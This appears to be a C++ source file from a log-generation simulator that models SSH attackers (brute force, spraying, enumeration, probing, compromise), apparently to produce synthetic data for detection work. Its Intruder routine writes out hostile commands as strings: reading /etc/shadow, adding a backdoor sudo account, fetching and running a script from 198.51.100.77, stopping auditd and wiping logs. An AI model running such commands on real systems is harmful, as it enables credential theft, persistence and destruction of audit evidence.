#include "simulate/ssh_attackers.h"

#include "simulate/host.h"
#include "simulate/ssh.h"
#include "simulate/words.h"

namespace vedette::simulate {
namespace {

using namespace std::chrono_literals;

/// Mostly the names everyone tries; a fifth of those that exist.
Login guess_login(Random& random, const World& world) {
  const std::uint32_t turn = random.below(100);
  if (turn < 20) return Login::of(world.root);
  if (turn < 35 && !world.people.empty()) return Login::of(pick(random, world.people));
  return {pick(random, kGuessedNames)};
}

SshEnd bot_end(Random& random, const Login& login, std::uint32_t attempts) {
  const std::uint32_t turn = random.below(100);
  if (attempts >= 6) return SshEnd::TooMany;
  if (turn < 55) return SshEnd::Bye;
  if (turn < 94) return SshEnd::Closed;
  return login.known && turn < 98 ? SshEnd::Reset : SshEnd::Timeout;
}

/// One source after another password, fast or slow.
class BruteForcer final : public Actor {
 public:
  BruteForcer(Scene& scene, std::uint64_t seed, Attack attack)
      : Actor(scene, seed),
        attack_(attack),
        peer_(Peer::attacker(scene)),
        only_root_(random_.below(100) < 60),
        per_connection_(random_.below(100) < 30 ? 6 : random_.between(1, 3)),
        left_(attack == Attack::SshBruteForce ? how_many(random_, 60) : random_.between(24, 120)) {
    if (attack == Attack::SshBruteForceSlow) per_connection_ = 1;
  }

  std::optional<Time> act(Time now) override {
    Script script{scene_.stage, random_, now};
    const Login login =
        only_root_ ? Login::of(scene_.world.root) : guess_login(random_, scene_.world);
    const std::uint32_t attempts = std::min(per_connection_, left_);
    SshConnection connection(script, peer_, attack_);
    connection.refuse_passwords(login, attempts);
    connection.end(login, bot_end(random_, login, attempts));
    left_ -= attempts;
    if (left_ == 0) return {};
    if (attack_ == Attack::SshBruteForceSlow) return now + span_between(random_, 4min, 16min);
    return now + span_between(random_, 400ms, 5s);
  }

 private:
  Attack attack_;
  Peer peer_;
  bool only_root_;
  std::uint32_t per_connection_, left_;
};

/// Two passwords at most for each of many names.
class Sprayer final : public Actor {
 public:
  Sprayer(Scene& scene, std::uint64_t seed)
      : Actor(scene, seed), peer_(Peer::attacker(scene)), left_(how_many(random_, 25)) {
    next_name_ = random_.below(kGuessedNames.size());
  }

  std::optional<Time> act(Time now) override {
    Script script{scene_.stage, random_, now};
    peer_.change_address(random_);
    const Login login = next_login();
    SshConnection connection(script, peer_, Attack::SshPasswordSpray);
    const std::uint32_t attempts = random_.between(1, 2);
    connection.refuse_passwords(login, attempts);
    connection.end(login, bot_end(random_, login, attempts));
    if (--left_ == 0) return {};
    return now + span_between(random_, 3s, 45s);
  }

 private:
  Login next_login() {
    const auto& people = scene_.world.people;
    if (!people.empty() && random_.below(100) < 40) return Login::of(pick(random_, people));
    next_name_ = (next_name_ + 1) % static_cast<std::uint32_t>(kGuessedNames.size());
    return {kGuessedNames[next_name_]};
  }

  Peer peer_;
  std::uint32_t left_, next_name_ = 0;
};

/// Many sources that share the work: each tries one user once or twice and is not seen again.
class Swarm final : public Actor {
 public:
  Swarm(Scene& scene, std::uint64_t seed) : Actor(scene, seed), left_(how_many(random_, 44)) {
    const auto& people = scene.world.people;
    login_ = Login::of(people.empty() || random_.below(2) == 0 ? scene.world.root
                                                               : pick(random_, people));
  }

  std::optional<Time> act(Time now) override {
    Script script{scene_.stage, random_, now};
    const Peer peer = Peer::attacker(scene_);
    SshConnection connection(script, peer, Attack::SshDistributed);
    const std::uint32_t attempts = random_.between(1, 2);
    connection.refuse_passwords(login_, attempts);
    connection.end(login_, SshEnd::Closed);
    if (--left_ == 0) return {};
    return now + span_between(random_, 2s, 40s);
  }

 private:
  Login login_;
  std::uint32_t left_;
};

class Enumerator final : public Actor {
 public:
  Enumerator(Scene& scene, std::uint64_t seed)
      : Actor(scene, seed), peer_(Peer::attacker(scene)), left_(how_many(random_, 30)) {
    next_name_ = random_.below(kGuessedNames.size());
  }

  std::optional<Time> act(Time now) override {
    Script script{scene_.stage, random_, now};
    next_name_ = (next_name_ + 1) % static_cast<std::uint32_t>(kGuessedNames.size());
    const Login login{kGuessedNames[next_name_]};
    SshConnection connection(script, peer_, Attack::SshUserEnumeration);
    connection.ask_for(login);
    connection.end(login, random_.below(4) == 0 ? SshEnd::Bye : SshEnd::Closed);
    if (--left_ == 0) return {};
    return now + span_between(random_, 500ms, 6s);
  }

 private:
  Peer peer_;
  std::uint32_t left_, next_name_ = 0;
};

/// Wants to know what listens here, or takes sshd for something else.
class Prober final : public Actor {
 public:
  Prober(Scene& scene, std::uint64_t seed)
      : Actor(scene, seed), peer_(Peer::attacker(scene)), left_(random_.between(12, 40)) {}

  std::optional<Time> act(Time now) override {
    Script script{scene_.stage, random_, now};
    const std::uint32_t pid = script.stage.next_pid(random_.between(1, 9));
    const std::uint32_t port = random_.between(32'768, 60'999);
    const std::uint32_t kind = random_.below(8);
    const auto fact = [&](Action action) {
      return Fact{action, peer_.source, Subject::None, Attack::SshProbe, 1};
    };
    const auto say = [&](Action action, std::string_view before, std::string_view after) {
      script.syslog("sshd", pid, fact(action), "{}{} port {}{}", before, peer_.text, port, after);
    };
    script.wait(10ms, 2s);
    switch (kind) {
      case 0:
        say(Action::ProtocolMismatch, "Did not receive identification string from ", "");
        break;
      case 1:
        say(Action::ProtocolMismatch, "banner exchange: Connection from ", ": invalid format");
        break;
      case 2:
        script.syslog("sshd", pid, fact(Action::ProtocolMismatch),
                      "Bad protocol version identification 'GET / HTTP/1.1' from {} port {}",
                      peer_.text, port);
        break;
      case 3:
        script.syslog("sshd", pid,
                      {.action = Action::PreauthDisconnect, .attack = Attack::SshProbe},
                      "error: kex_exchange_identification: Connection closed by remote host");
        say(Action::ConnectionClosed, "Connection closed by ", "");
        break;
      case 4:
        say(Action::NegotiationFailed, "Unable to negotiate with ",
            ": no matching key exchange method found. Their offer: "
            "diffie-hellman-group14-sha1,diffie-hellman-group-exchange-sha1,"
            "diffie-hellman-group1-sha1 [preauth]");
        break;
      case 5:
        say(Action::NegotiationFailed, "Unable to negotiate with ",
            ": no matching host key type found. Their offer: ssh-rsa,ssh-dss [preauth]");
        break;
      case 6:
        say(Action::ProtocolError, "ssh_dispatch_run_fatal: Connection from ",
            ": Connection corrupted [preauth]");
        break;
      default:
        say(Action::PreauthDisconnect, "Connection reset by ", " [preauth]");
        break;
    }
    if (--left_ == 0) return {};
    return now + span_between(random_, 2s, 75s);
  }

 private:
  Peer peer_;
  std::uint32_t left_;
};

/// Guesses until a password fits, then makes itself at home and hides.
class Intruder final : public Actor {
 public:
  Intruder(Scene& scene, std::uint64_t seed)
      : Actor(scene, seed), peer_(Peer::attacker(scene)), left_(random_.between(12, 40)) {
    const World& world = scene.world;
    account_ = world.people.empty() ? &world.root : &pick(random_, world.people);
    may_sudo_ = random_.below(100) < 70;
  }

  std::optional<Time> act(Time now) override {
    Script script{scene_.stage, random_, now};
    const Login login = Login::of(*account_);
    if (left_ > 0) {
      const std::uint32_t attempts = std::min(left_, random_.between(2, 4));
      SshConnection connection(script, peer_, Attack::SshBruteForce);
      connection.refuse_passwords(login, attempts);
      connection.end(login, SshEnd::Closed);
      left_ -= attempts;
      return now + span_between(random_, 3s, 12s);
    }
    SshConnection connection(script, peer_, Attack::SshCompromise);
    connection.accept_password(login);
    script.wait(5s, 40s);
    const std::uint32_t tty = random_.below(4);
    const Shell shell{*account_, tty, "/tmp", Attack::SshCompromise};
    if (may_sudo_) {
      take_over(script, shell);
    } else {
      try_in_vain(script, shell);
    }
    script.wait(10s, 90s);
    connection.close_session(login);
    return {};
  }

 private:
  void take_over(Script& script, const Shell& shell) {
    const auto sudo = [&](std::string_view command) {
      run_sudo(script, shell, command);
      script.wait(3s, 30s);
    };
    sudo("/usr/bin/id");
    sudo("/usr/bin/cat /etc/shadow");
    const std::uint32_t number = random_.between(10, 99);
    const std::string name = "sysd" + std::to_string(number);
    sudo("/usr/sbin/useradd -m -s /bin/bash " + name);
    create_account(script, shell, {name, 1900 + number, "sudo"});
    sudo("/usr/bin/wget -q http://198.51.100.77/k/r.sh -O /tmp/.r");
    sudo("/usr/bin/bash /tmp/.r");
    sudo("/usr/bin/systemctl stop auditd");
    sudo("/usr/bin/truncate -s 0 /var/log/wtmp");
    sudo("/usr/bin/shred -u /root/.bash_history");
    sudo("/usr/bin/rm -f /var/log/btmp /var/log/lastlog");
  }

  void try_in_vain(Script& script, const Shell& shell) {
    deny_sudo(script, shell, "/usr/bin/bash");
    script.wait(4s, 20s);
    fail_sudo(script, shell, "/usr/bin/cat /etc/shadow");
    const std::uint32_t attempts = random_.between(2, 5);
    for (std::uint32_t i = 0; i < attempts; ++i) {
      script.wait(3s, 12s);
      fail_su(script, shell);
    }
  }

  Peer peer_;
  std::uint32_t left_;
  const Account* account_;
  bool may_sudo_;
};

}  // namespace

std::unique_ptr<Actor> make_ssh_attacker(Attack attack, Scene& scene, std::uint64_t seed) {
  switch (attack) {
    case Attack::SshBruteForce:
    case Attack::SshBruteForceSlow:
      return std::make_unique<BruteForcer>(scene, seed, attack);
    case Attack::SshPasswordSpray:
      return std::make_unique<Sprayer>(scene, seed);
    case Attack::SshDistributed:
      return std::make_unique<Swarm>(scene, seed);
    case Attack::SshUserEnumeration:
      return std::make_unique<Enumerator>(scene, seed);
    case Attack::SshProbe:
      return std::make_unique<Prober>(scene, seed);
    case Attack::SshCompromise:
      return std::make_unique<Intruder>(scene, seed);
    default:
      return nullptr;
  }
}

}  // namespace vedette::simulate
